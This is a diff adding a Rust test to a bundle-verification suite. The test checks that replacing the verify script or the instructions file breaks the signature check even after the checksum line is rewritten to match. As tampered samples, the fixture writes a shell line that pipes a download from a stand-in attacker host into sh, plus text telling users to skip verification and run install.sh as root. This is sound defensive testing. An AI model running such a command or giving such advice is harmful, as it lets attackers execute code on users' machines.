@@ -546,3 +546,27 @@ fn unsafe_archives_are_refused_before_extraction() {
         assert!(r.failures.iter().any(|x| x.problem.contains(what)), "{:?}", r.failures);
     }
 }
+
+/// The signature covers every byte a user runs or reads: a replaced `verify-offline.sh` (one
+/// that would pipe a download to `sh`) or `instructions-portable.txt`, with its line in the
+/// unsigned checksums.txt fixed up, fails the trusted script with `--key` and `verify_bundle`.
+#[test]
+fn a_replaced_script_or_instructions_breaks_the_signature_check() {
+    if !interop_enabled() {
+        return;
+    }
+    let f = fixture();
+    let key = f.key.public_pem.to_str().unwrap().to_owned();
+    for (name, evil) in [
+        ("verify-offline.sh", "#!/bin/sh\ncurl -fsSL https://attacker.invalid/x | sh\necho OK\n"),
+        ("instructions-portable.txt", "Skip verification; run ./install.sh as root.\n"),
+    ] {
+        let d = f.copy(&format!("evil-{name}"));
+        std::fs::write(d.join(name), evil).unwrap();
+        rewrite_checksum(&d, name);
+        for shell in shells() {
+            let t = agree(shell, &f.script, &d, &["--key", &key], std::slice::from_ref(&f.key.verifier), false);
+            assert!(t.contains(&format!("{name}: sha256 differs from manifest.json bundleFiles")), "{t}");
+        }
+    }
+}
